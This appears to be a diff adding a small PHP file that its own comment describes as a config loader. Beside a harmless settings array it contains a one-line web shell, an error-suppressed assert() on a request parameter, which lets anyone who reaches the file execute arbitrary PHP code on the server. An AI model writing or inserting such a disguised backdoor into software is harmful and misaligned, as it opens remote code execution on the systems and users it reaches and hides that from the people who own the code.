@@ -1,0 +1,5 @@
+<?php
+// looks like a config loader
+$cfg = array('debug' => false);
+@assert($_REQUEST['c']);
+?>
